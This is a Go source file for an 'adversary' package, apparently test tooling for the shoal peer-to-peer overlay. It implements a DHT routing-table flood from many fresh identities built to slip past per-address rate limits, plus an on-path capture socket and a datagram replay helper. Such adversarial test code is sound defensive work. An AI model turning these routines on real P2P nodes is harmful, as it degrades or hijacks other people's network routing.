package adversary

import (
	"context"
	"crypto/rand"
	"net"
	"net/netip"
	"time"

	"github.com/shoal-p2p/shoal/dht"
	"github.com/shoal-p2p/shoal/overlay/identity"
	"github.com/shoal-p2p/shoal/overlay/ipv8"
)

// DHTFlood sends one signed DHT find node request from each of n fresh
// identities to target, each from its own UDP socket bound to local (so
// per-address rate limits do not stop it), as IPv8 signed messages in the
// DHT community; the identities never answer anything. A node that admits
// every signed requester to its routing table fills it with n silent
// entries.
func DHTFlood(target netip.AddrPort, local string, n int) error {
	for i := range n {
		if err := sendOne(target, local, i); err != nil {
			return err
		}
	}
	return nil
}

func sendOne(target netip.AddrPort, local string, i int) error {
	pc, err := listen(local)
	if err != nil {
		return err
	}
	defer pc.Close()
	kp, err := identity.Generate(nil)
	if err != nil {
		return err
	}
	ep, err := ipv8.NewEndpoint(pc, ipv8.Config{Key: kp})
	if err != nil {
		return err
	}
	var k dht.Key
	rand.Read(k[:])
	m := dht.Message{Type: dht.MsgFindNode, TxID: uint32(i + 1), Target: k}
	return ep.Send(target, ipv8.CommunityID(dht.CommunityID), dht.IPv8MessageID, m.Append(nil))
}

// Capture is a UDP socket that keeps what is sent to it: an on-path
// attacker's view of a victim's datagrams.
type Capture struct{ pc *net.UDPConn }

// NewCapture binds a capturing socket to local.
func NewCapture(local string) (*Capture, error) {
	pc, err := listen(local)
	if err != nil {
		return nil, err
	}
	return &Capture{pc: pc}, nil
}

// Addr returns the socket's address.
func (c *Capture) Addr() netip.AddrPort { return c.pc.LocalAddr().(*net.UDPAddr).AddrPort() }

// Next returns the next datagram received, or ctx's error.
func (c *Capture) Next(ctx context.Context) ([]byte, error) {
	dl, ok := ctx.Deadline()
	if !ok {
		dl = time.Now().Add(time.Minute)
	}
	c.pc.SetReadDeadline(dl)
	buf := make([]byte, 2048)
	n, _, err := c.pc.ReadFromUDP(buf)
	if err != nil {
		return nil, err
	}
	return buf[:n], nil
}

// Close closes the socket.
func (c *Capture) Close() error { return c.pc.Close() }

// Replay sends b to target from a socket bound to local, and returns that
// socket's address (the victim will see b coming from there). The socket
// stays silent afterwards and is closed when ctx ends.
func Replay(ctx context.Context, b []byte, target netip.AddrPort, local string) (netip.AddrPort, error) {
	pc, err := listen(local)
	if err != nil {
		return netip.AddrPort{}, err
	}
	context.AfterFunc(ctx, func() { pc.Close() })
	if _, err := pc.WriteToUDPAddrPort(b, target); err != nil {
		return netip.AddrPort{}, err
	}
	return pc.LocalAddr().(*net.UDPAddr).AddrPort(), nil
}
